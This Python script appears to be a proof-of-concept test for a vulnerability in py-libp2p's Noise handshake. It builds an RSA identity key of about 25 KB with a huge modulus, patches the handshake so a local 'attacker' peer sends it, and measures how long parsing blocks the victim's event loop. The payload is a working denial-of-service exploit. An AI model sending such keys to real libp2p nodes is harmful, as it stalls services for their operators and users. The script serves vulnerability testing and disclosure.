"""A dialling peer may send an RSA key of any size. It is parsed before authentication and blocks
the event loop meanwhile."""

import time
from contextlib import suppress
from typing import Any

import trio
from Crypto.Util.asn1 import DerSequence
from libp2p.crypto.pb import crypto_pb2
from libp2p.security.noise.patterns import PatternXX
from libp2p.security.noise.pb.noise_pb2 import NoiseHandshakePayload
from stock import connect, peer, run, tell

TICK_S = 0.01
TOO_LONG_S = 0.5
NUMBER = (1 << 200_000) + 1
KEY = crypto_pb2.PublicKey(
    key_type=crypto_pb2.RSA, data=DerSequence([NUMBER, NUMBER - 2]).encode()
).SerializeToString()


def say(key: bytes, attacker: Any) -> None:
    """Make the attacker send this key as its own."""
    honest = PatternXX.make_handshake_payload

    def make(self: PatternXX, *args: Any) -> Any:
        payload = honest(self, *args)
        if self.local_peer == attacker:
            made = NoiseHandshakePayload(identity_key=key, identity_sig=bytes(64))
            payload.serialize = made.SerializeToString
        return payload

    PatternXX.make_handshake_payload = make  # type: ignore[method-assign]


async def main() -> int:
    longest = 0.0

    async def tick() -> None:
        nonlocal longest
        while True:
            before = time.monotonic()
            await trio.sleep(TICK_S)
            longest = max(longest, time.monotonic() - before)

    async with peer() as (victim, _), peer() as (attacker, _), trio.open_nursery() as nursery:
        say(KEY, attacker.get_id())
        nursery.start_soon(tick)
        with suppress(Exception), trio.move_on_after(10):
            await connect(attacker, victim)
        await trio.sleep(1)
        nursery.cancel_scope.cancel()
    text = f"one handshake with a key of {len(KEY) // 1000} KB took the loop for {longest:.1f} s"
    return tell(longest > TOO_LONG_S, text)


run(main, crash="stalls")
